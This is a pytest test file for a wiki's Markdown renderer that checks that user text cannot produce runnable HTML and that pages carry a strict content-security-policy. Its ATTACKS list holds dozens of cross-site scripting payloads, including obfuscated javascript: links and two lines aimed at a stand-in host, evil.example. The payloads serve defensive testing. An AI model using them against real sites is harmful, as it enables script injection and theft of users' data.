"""From Markdown to HTML: what people write is shown, and nothing that they write can run."""

from __future__ import annotations

import asyncio
import re
from html.parser import HTMLParser
from pathlib import Path
from urllib.parse import urlsplit

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from tests.support.front import a_front
from web import markdown
from web.markdown import Renderer, render
from wiki.links import Target, wiki_links

SCHEMES = {"http", "https", "mailto", "tel", ""}
TAGS = re.compile(
    "h[1-6]|p|blockquote|pre|hr|br|section|ul|ol|li|label|input|table|thead|tbody|tr|th|td"
    "|a|img|em|strong|s|del|code|sup"
)
ATTRIBUTES = re.compile(
    "id|class|href|title|rel|src|alt|loading|width|height|type|checked|disabled|start"
)


class Judge(HTMLParser):
    """Finds in HTML what must not be there, as a browser would read it."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.wrong: list[str] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if not TAGS.fullmatch(tag):
            self.wrong.append(f"<{tag}>")
        for name, value in attrs:
            if not ATTRIBUTES.fullmatch(name):
                self.wrong.append(f"{tag} {name}=")
            if name in ("href", "src"):
                plain = re.sub(r"[\x00-\x20]", "", value or "")
                if urlsplit(plain).scheme.lower() not in SCHEMES:
                    self.wrong.append(f"{name}={value}")


def html_of(text: str, **leads: str | None) -> str:
    return str(render(text, {Target(None, name): at for name, at in leads.items()}, "ideas").html)


ATTACKS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><animate onbegin=alert(1)></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<a href='javascript:alert(1)'>x</a>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<style>@import 'https://evil.example';</style>",
    "<base href=https://evil.example><form action=//evil.example><input name=csrf>",
    "<!--><script>alert(1)</script>-->",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](<java\nscript:alert(1)>)",
    "[x](javascript&colon;alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A&#x61vascript:alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](vbscript:msgbox)",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "![x](data:image/svg+xml;base64,PHN2Zz4=)",
    "![x](data:image/png;base64,iVBORw0KGgo=)",
    "![x](javascript:alert(1))",
    '![x" onerror="alert(1)](y)',
    '![x](y "z\\" onerror=\\"alert(1)")',
    "[x](y 'z\" onmouseover=\"alert(1)')",
    "<javascript:alert(1)>",
    '<https://x.example/"onmouseover=alert(1)>',
    'https://x.example/"><script>alert(1)</script>',
    "www.x.example/'onclick='alert(1)",
    "[x]\n\n[x]: javascript:alert(1)",
    "[[<img src=x onerror=alert(1)>]]",
    "[[a|<img src=x onerror=alert(1)>]]",
    '[[a"onclick="alert(1)]]',
    "[[javascript:alert(1)]]",
    "[^1]\n\n[^1]: <script>alert(1)</script> [x](javascript:alert(1))",
    '[^"onclick="alert(1)]\n\n[^"onclick="alert(1)]: x',
    "^[<script>alert(1)</script>]",
    '```"onclick="alert(1)\n<script>\n```',
    "``` <script>alert(1)</script>\nx\n```",
    "|a|\n|-|\n|<script>alert(1)</script>|",
    "- [ ] <input autofocus onfocus=alert(1)>",
    '# <a id="x" onclick=alert(1)>',
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "[a[b](c)](javascript:alert(1)) [![x](y)](javascript:1)",
    "> 1. > [x](javascript:alert(1))\n>    > <script>",
    "\\<script>alert(1)\\</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "\ufeff<script>\u2028alert(1)</script>",
]


@pytest.mark.parametrize("attack", ATTACKS, ids=range(len(ATTACKS)))
def test_nothing_that_is_written_can_run(attack: str) -> None:
    for text in (attack, f"- {attack}", f"## {attack}", f"[^n]\n\n[^n]: {attack}", f"**{attack}**"):
        found = html_of(text)
        assert Judge(found).wrong == [], found


PIECES = st.sampled_from(
    [*ATTACKS, *"[]()<>!`*_~|#&;:\"'\\\n^-", "a", "://", "x.example", "[[", "]]"]
)


@settings(max_examples=300, deadline=None)
@given(st.lists(PIECES, max_size=8).map("".join))
def test_nor_can_anything_that_is_made_of_it(text: str) -> None:
    found = render(text, {}, "ideas")
    assert Judge(str(found.html)).wrong == []


def test_what_must_not_be_there_would_be_found() -> None:
    assert Judge('<a href=" java\nscript:x" onclick=y>').wrong == [
        "href= java\nscript:x",
        "a onclick=",
    ]
    assert Judge("<script>").wrong == ["<script>"]


async def test_a_page_full_of_attacks_is_shown_under_a_strict_policy(tmp_path: Path) -> None:
    async with a_front(tmp_path) as front:
        text = "\n\n".join(ATTACKS)
        await front.page(await front.space(), text=text)
        shown = await front.ada.get("/s/ideas/idea")
        policy = shown.headers["content-security-policy"]
        scripts = re.search(r"script-src ([^;]*)", policy)
        assert scripts and re.fullmatch(r"'self' 'nonce-[\w-]{22}'", scripts[1])
        assert "unsafe" not in policy and "default-src 'none'" in policy
        nonce = scripts[1].partition("nonce-")[2].rstrip("'")
        for tag in re.findall(r"<script[^>]*>", shown.text):
            assert f'nonce="{nonce}"' in tag or 'src="/static/' in tag
        assert not [one for one in Judge(shown.text).wrong if " on" in one or "javascript" in one]
        again = await front.ada.get("/s/ideas/idea")
        assert nonce not in again.headers["content-security-policy"]


SHOWN = [
    ("~~no~~", "<s>no</s>"),
    ("- [x] done\n- [ ] to do", 'type="checkbox"'),
    ("|a|b|\n|:-:|-:|\n|1|2|", '<td class="align-center">1</td>'),
    ("see www.example.com.", '<a href="http://www.example.com"'),
    ("https://a.example/b_c_d?x=1&y=2", 'href="https://a.example/b_c_d?x=1&amp;y=2"'),
    ("ada@acme.com", 'href="mailto:ada@acme.com"'),
    ("a[^1]\n\n[^1]: note", '<section class="footnotes">'),
    ("## Größe\n## Größe", 'id="h-grösse-2"'),
    ("![alt](/files/x/a.png)", 'loading="lazy"'),
    ("[out](https://x.example)", 'rel="noopener noreferrer nofollow"'),
    ("AT&amp;T &copy; &nope;", "AT&amp;T © &amp;nope;"),
    ("3. three", '<ol start="3">'),
    ("```py\na < b\n```", '<code class="language-py">a &lt; b'),
    ("[[There]] [[there|so]] [[Not yet]]", '<a href="/s/ideas/there">There</a>'),
    ("[[space/Not there]]", 'href="/s/space/new?title=Not%20there"'),
    ("`[[There]]`", "<code>[[There]]</code>"),
    ("[[]] [[ ]] [[a", "[[]] [[ ]] [[a"),
]


@pytest.mark.parametrize(("text", "expected"), SHOWN)
def test_what_is_written_is_shown(text: str, expected: str) -> None:
    assert expected in html_of(text, There="/s/ideas/there")


@pytest.mark.parametrize("text", ["[" * 40_000, "http://a" * 40_000, "^[" * 40_000])
def test_a_text_that_is_hard_to_parse_is_shown_as_it_was_typed(text: str) -> None:
    shown = render(text, {}, "ideas", parse_seconds=0.2)
    assert text[:1000] in str(shown.html)


async def test_the_same_text_is_rendered_once_and_anew_when_its_links_lead_elsewhere() -> None:
    renderer, here = Renderer(), Target(None, "A")
    first, second = await asyncio.gather(
        *(renderer.render("[[A]]", {here: None}, "ideas") for _ in range(2))
    )
    assert first is second and "is-missing" in first.html
    led = await renderer.render("[[A]]", {here: "/s/ideas/a"}, "ideas")
    assert 'href="/s/ideas/a"' in led.html
    other = await renderer.render("[[A]]", {here: None}, "other")
    assert "/s/other/new" in other.html
    assert await renderer.render("[[A]]", {here: None}, "ideas") is first


async def test_only_so_many_renderings_are_kept() -> None:
    renderer = Renderer(kept=2)
    first = await renderer.render("a", {}, "ideas")
    for text in "bc":
        await renderer.render(text, {}, "ideas")
    assert await renderer.render("a", {}, "ideas") is not first


async def test_who_goes_away_does_not_take_the_rendering_from_others() -> None:
    renderer = Renderer()
    asked = [asyncio.create_task(renderer.render("x " * 20_000, {}, "i")) for _ in range(2)]
    await asyncio.sleep(0)
    asked[0].cancel()
    assert "x x" in (await asked[1]).html


def test_a_line_break_in_a_cell_is_the_one_tag_that_works() -> None:
    html = html_of("| a |\n|---|\n| x<br>y<BR/>z `<br>` <br a> |")
    assert html.count("<br>") == 2 and "<code>&lt;br&gt;</code> &lt;br a&gt;" in html


def test_a_link_in_a_cell_has_its_bar_escaped_and_leads_to_the_same_page() -> None:
    text = "| a |\n|---|\n| [[Title\\|label]] |"
    (target,) = wiki_links(text)
    assert target == Target(None, "Title", "label")
    assert '<td><a href="/t">label</a></td>' in str(render(text, {target: "/t"}, "ideas").html)


ADDRESSES = ("http://", "https:", "//", "mailto:", "ftp://x", "www.", "example", ".com", ".org/a")
AROUND = (
    "a@b.de",
    "@",
    ".",
    ":",
    "/",
    " ",
    "\n",
    "\u3002",
    "\u00a0",
    "(",
    "*",
    "ü",
    "中",
    "192.168.0.1",
)


@given(st.lists(st.sampled_from((*ADDRESSES, *AROUND)), max_size=12).map("".join))
def test_no_address_is_missed_where_none_is_looked_for(text: str) -> None:
    every = re.compile("")
    with pytest.MonkeyPatch.context() as patched:
        patched.setattr(markdown, "_ADDRESS", every)
        wanted = render(text, {}, "ideas")
    assert render(text, {}, "ideas") == wanted
